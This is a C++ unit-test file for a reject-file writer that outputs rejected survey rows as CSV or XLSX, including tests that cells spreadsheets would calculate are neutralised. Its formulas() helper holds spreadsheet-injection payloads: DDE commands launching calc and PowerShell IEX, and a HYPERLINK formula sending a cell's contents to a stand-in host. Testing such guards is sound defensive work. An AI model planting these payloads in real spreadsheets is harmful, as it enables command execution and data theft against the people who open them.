// SPDX-License-Identifier: MIT
// What stands in a reject file: five columns and the cells as they were, safe to open in a spreadsheet.
#include "core/shard/rejected_rows.h"

#include <gtest/gtest.h>

#include <fstream>
#include <string>
#include <string_view>
#include <vector>

#include "tests/format/zip/read_archive.h"
#include "tests/support/naive_csv.h"
#include "tests/support/reject_files.h"
#include "tests/support/test_files.h"

namespace npscope {
namespace {

using namespace std::string_literals;
using testing_support::batch_of;
using testing_support::kSomeHash;
using testing_support::kUtf8Mark;
using testing_support::reject_file;
using testing_support::Rows;

constexpr std::string_view kNames = "npscope file,npscope record,npscope code,npscope reason,npscope source";

RejectSource source_named(std::string file, csv::Punctuation marks = {',', '"'}, std::vector<std::string> names = {}) {
  return {std::move(file), std::string(kSomeHash), marks, std::move(names)};
}

/// All records of a text but the first, rejected for `code`.
std::string rejects_of(std::string_view text, csv::Punctuation marks, RejectForm form, Code code, size_t headers = 1) {
  csv::Reader reader(marks);
  RecordBatch batch;
  EXPECT_EQ(reader.next(text, true, batch), text.size());
  const ReasonTexts reasons;
  RejectedRows rejected(source_named("a.csv", marks), form, reasons);
  for (size_t r = 0; r < headers; ++r) rejected.add_header(batch, r, r == 0);
  for (size_t r = headers; r < batch.size(); ++r) rejected.add(batch, r, code);
  rejected.finish();
  return rejected.text();
}

std::string expected_file(std::string_view names, const std::vector<std::string_view>& lines) {
  std::string text(kUtf8Mark);
  text.append(names).append("\r\n");
  for (const std::string_view line : lines) text.append(line).append("\r\n");
  return text;
}

/// The cells of a written CSV, by the reference reader of the tests.
naive::Table cells_in(std::string_view file, char delimiter) {
  EXPECT_TRUE(file.starts_with(kUtf8Mark));
  file.remove_prefix(kUtf8Mark.size());
  naive::Table table = naive::Reader(file, delimiter, {}).read();
  for (const naive::Record& record : table.records) EXPECT_TRUE(record.remarks.empty());
  return table;
}

TEST(RejectedRows, FiveColumnsStandInFrontOfTheCellsAsTheyWere) {
  EXPECT_EQ(rejects_of("id;score;note\n1;11;\"a;b\n\"\"c\"\"\"\n2;x, y; z \n", {';', '"'}, {}, Code::kScoreOutOfRange),
            expected_file(std::string(kNames) + ",id,score,note",
                          {"a.csv,2,score-out-of-range,score-out-of-range,xxh3-128:00112233445566778899aabbccddeeff,1,11,"
                           "\"a;b\n\"\"c\"\"\"",
                           "a.csv,3,score-out-of-range,score-out-of-range,xxh3-128:00112233445566778899aabbccddeeff,2,"
                           "\"x, y\", z "}));
}

TEST(RejectedRows, TheSourcesDelimiterIsKeptWhenAskedFor) {
  const std::string file =
      rejects_of("id;score\n1,5;x\n", {';', '"'}, {.kind = RejectKind::kSourceCsv}, Code::kScoreNotANumber);
  EXPECT_EQ(file, std::string(kUtf8Mark) +
                      "npscope file;npscope record;npscope code;npscope reason;npscope source;id;score\r\n"
                      "a.csv;2;score-not-a-number;score-not-a-number;xxh3-128:00112233445566778899aabbccddeeff;1,5;x\r\n");
}

TEST(RejectedRows, SourcesWithoutADelimiterGetCommas) {
  EXPECT_EQ(reject_file({{"a"}, {"b"}}, {.kind = RejectKind::kSourceCsv}, '\x1F'), reject_file({{"a"}, {"b"}}, {}));
}

TEST(RejectedRows, AllHeaderRecordsAreKeptAndTheExtraNamesStandInTheOneWithNames) {
  EXPECT_EQ(rejects_of("Q1,Q2\nHow likely?,Why?\n{\"\"ImportId\"\"},x\n12,y\n", {',', '"'}, {}, Code::kScoreOutOfRange, 3),
            expected_file(std::string(kNames) + ",Q1,Q2",
                          {",,,,,How likely?,Why?", ",,,,,\"{\"\"\"\"ImportId\"\"\"\"}\",x",
                           "a.csv,4,score-out-of-range,score-out-of-range,xxh3-128:00112233445566778899aabbccddeeff,12,y"}));
}

TEST(RejectedRows, NamesThatTheSourceGivesBecomeTheHeader) {
  const ReasonTexts reasons;
  RejectedRows rejected(source_named("a.json", {'\x1F', '\0'}, {"=id", "score"}), {}, reasons);
  RecordBuilder builder;
  rejected.add(batch_of({{"1", "x"}}, builder), 0, Code::kScoreNotANumber);
  rejected.finish();
  EXPECT_EQ(rejected.text(),
            expected_file(std::string(kNames) + ",\"'=id\",score",
                          {"a.json,1,score-not-a-number,score-not-a-number,xxh3-128:00112233445566778899aabbccddeeff,1,x"}));
  EXPECT_EQ(rejected.records(), 1U);
}

TEST(RejectedRows, WithoutHeaderOrRecordsThereAreStillTheFiveNames) {
  const ReasonTexts reasons;
  RejectedRows rejected(source_named("a.csv"), {}, reasons);
  rejected.finish();
  EXPECT_EQ(rejected.text(), expected_file(kNames, {}));
}

TEST(RejectedRows, ReasonsAreTheHostsSentencesOrTheCode) {
  ReasonTexts reasons;
  EXPECT_TRUE(reasons.set("score-out-of-range", "Nicht von 0 bis 10, \"11\" etwa."));
  EXPECT_FALSE(reasons.set("score-out-of-rang", "x"));
  EXPECT_FALSE(reasons.set("", "x"));
  RejectedRows rejected(source_named("a.csv", {',', '\0'}), {}, reasons);
  RecordBuilder builder;
  const RecordBatch batch = batch_of({{"n"}, {"11"}, {"x"}}, builder);
  rejected.add_header(batch, 0, true);
  rejected.add(batch, 1, Code::kScoreOutOfRange);
  rejected.add(batch, 2, Code::kScoreNotANumber);
  rejected.finish();
  EXPECT_EQ(rejected.text(),
            expected_file(std::string(kNames) + ",n",
                          {"a.csv,2,score-out-of-range,\"Nicht von 0 bis 10, \"\"11\"\" etwa.\","
                           "xxh3-128:00112233445566778899aabbccddeeff,11",
                           "a.csv,3,score-not-a-number,score-not-a-number,xxh3-128:00112233445566778899aabbccddeeff,x"}));
}

TEST(RejectedRows, RecordsKeepTheNumberOfTheirCells) {
  const naive::Table table = cells_in(rejects_of("a,b,c\n1\n1,2,3,4,\n,,\n", {',', '"'}, {}, Code::kTooFewCells), ',');
  std::vector<size_t> counts;
  counts.reserve(table.records.size());
  for (const naive::Record& record : table.records) counts.push_back(record.cells.size());
  EXPECT_EQ(counts, (std::vector<size_t>{8, 6, 10, 8}));
}

TEST(RejectedRows, ACellWhoseQuoteIsNeverClosedIsWrittenAsItStands) {
  const naive::Table table = cells_in(rejects_of("a,b\n9,\"good\n8,x\" y\n", {',', '"'}, {}, Code::kUnclosedQuote), ',');
  ASSERT_EQ(table.records.size(), 3U);
  EXPECT_EQ(table.records[1].cells.back(), "\"good");
  EXPECT_EQ(table.records[2].cells.back(), "x\" y");
}

TEST(RejectedRows, BytesThatAreNoTextStayInCsvAndAreReplacedInXlsx) {
  EXPECT_TRUE(reject_file({{"n"}, {"a\xFF"}}, {}).contains(",a\xFF\r\n"));
  const testing_support::ReadCorrections read =
      testing_support::read_corrected_workbook(reject_file({{"n"}, {"a\xFF"}}, {.kind = RejectKind::kXlsx}));
  EXPECT_EQ(read.rows, (Rows{{"n"}, {"a\xEF\xBF\xBD"}}));
}

/// Texts that spreadsheets calculate: OWASP's list with LF of 2025, ASVS 5.0's NUL, full-width forms, and all that after blanks.
std::vector<std::string> formulas() {
  std::vector<std::string> texts;
  for (const std::string& start : {"="s, "+"s, "-"s, "@"s, "\t"s, "\r"s, "\n"s, "\0"s, "\xEF\xBC\x9D"s, "\xEF\xBC\x8B"s,
                                   "\xEF\xBC\x8D"s, "\xEF\xBC\xA0"s}) {
    texts.push_back(start + "SUM(1+1)*cmd|' /C calc'!A0");
    texts.push_back("  " + start + "x");
  }
  texts.insert(texts.end(),
               {"=HYPERLINK(\"http://x/?\"&A1,\"a, b\")", "=cmd|'/C powershell IEX(x)'!A0", "'=1", "''=1", "=", "-"});
  if (const auto corpora = testing_support::corpora()) {
    const auto lists = *corpora / "csv" / "csv-injection-payloads";
    for (const auto& list : testing_support::files_below(lists, 1 << 20, {".txt"})) {
      std::ifstream in(list);
      for (std::string line; std::getline(in, line);)
        if (!line.empty() && std::string_view("=+-@").contains(line[0])) texts.push_back(line);
    }
  }
  return texts;
}

TEST(RejectedRows, CellsThatASpreadsheetWouldCalculateAreGuardedAndQuoted) {
  for (const RejectKind kind : {RejectKind::kCsv, RejectKind::kSourceCsv}) {
    const char delimiter = kind == RejectKind::kCsv ? ',' : ';';
    for (const std::string& text : formulas()) {
      const std::string file = reject_file({{text}, {text}}, {.kind = kind}, ';');
      const naive::Table table = cells_in(file, delimiter);
      ASSERT_EQ(table.records.size(), 2U) << text;
      for (const naive::Record& record : table.records) EXPECT_EQ(record.cells.back(), "'" + text);
      EXPECT_TRUE(file.contains(delimiter + "\"'"s)) << text;
    }
  }
}

TEST(RejectedRows, TheNameOfTheFileIsGuardedToo) {
  const ReasonTexts reasons;
  RejectedRows rejected(source_named("=a.csv", {',', '\0'}), {}, reasons);
  RecordBuilder builder;
  rejected.add(batch_of({{"x"}}, builder), 0, Code::kScoreNotANumber);
  rejected.finish();
  EXPECT_TRUE(rejected.text().contains("\r\n\"'=a.csv\",1,"));
}

TEST(RejectedRows, WithoutTheGuardOnlyTextsThatLookGuardedGetOne) {
  const Rows rows = {{"n"}, {"=1"}, {"'=1"}, {"'plain"}, {"-5"}};
  const naive::Table table = cells_in(reject_file(rows, {.guard = false}), ',');
  std::vector<std::string> last;
  last.reserve(table.records.size());
  for (const naive::Record& record : table.records) last.push_back(record.cells.back());
  EXPECT_EQ(last, (std::vector<std::string>{"n", "=1", "''=1", "''plain", "-5"}));
}

TEST(RejectedRows, AWorkbookHoldsTextsOnlyAndNoFormula) {
  Rows rows = {{"n"}};
  for (const std::string& text : formulas()) rows.push_back({text});
  const std::string file = reject_file(rows, {.kind = RejectKind::kXlsx});
  const std::vector<zip::Entry> entries = testing_support::entries_in(file);
  const zip::Entry* entry = zip::find_entry(entries, "xl/worksheets/sheet1.xml");
  ASSERT_NE(entry, nullptr);
  zip::Budget budget;
  const std::string xml = zip::unpack(*entry, file, budget).text;
  const auto count = [&xml](std::string_view word) {
    size_t found = 0;
    for (size_t at = xml.find(word); at != std::string::npos; at = xml.find(word, at + 1)) ++found;
    return found;
  };
  EXPECT_EQ(count("<c "), rows.size() * 6);
  EXPECT_EQ(count(" t=\"inlineStr\"><is><t"), rows.size() * 6);
  EXPECT_EQ(count("<f"), 0U);
}

TEST(RejectedRows, AWorkbookRefusesWhatIsWiderThanASheetAndCsvTakesIt) {
  const Rows wide = {{"n"}, std::vector<std::string>(16'380, "x")};
  EXPECT_EQ(cells_in(reject_file(wide, {}), ',').records[1].cells.size(), 16'385U);
  const ReasonTexts reasons;
  RejectedRows rejected(source_named("a.csv", {',', '\0'}), {.kind = RejectKind::kXlsx}, reasons);
  RecordBuilder builder;
  const RecordBatch batch = batch_of(wide, builder);
  rejected.add_header(batch, 0, true);
  EXPECT_FALSE(rejected.failure());
  rejected.add(batch, 1, Code::kTooManyCells);
  ASSERT_TRUE(rejected.failure());
  EXPECT_EQ(rejected.failure()->code, Code::kLimitExceeded);
}

TEST(RejectedRows, WhenTheTextIsTakenNeverShows) {
  Rows rows = {{"n", "m"}};
  for (int i = 0; i < 5'000; ++i) rows.push_back({std::to_string(i * 7919), "=" + std::to_string(i)});
  for (const RejectKind kind : {RejectKind::kCsv, RejectKind::kXlsx}) {
    const std::string whole = reject_file(rows, {.kind = kind});
    const ReasonTexts reasons;
    RejectedRows rejected({"f.csv", std::string(kSomeHash), {',', '\0'}, {}}, {.kind = kind}, reasons);
    std::string out;
    const auto take = [&] {
      out += rejected.text();
      rejected.text().clear();
    };
    RecordBuilder builder;
    const RecordBatch batch = batch_of(rows, builder);
    take();
    rejected.add_header(batch, 0, true);
    for (size_t r = 1; r < rows.size(); ++r) {
      rejected.add(batch, r, Code::kScoreNotANumber);
      if (r % 3 == 0) take();
    }
    rejected.finish();
    take();
    EXPECT_TRUE(out == whole);
  }
}

}  // namespace
}  // namespace npscope
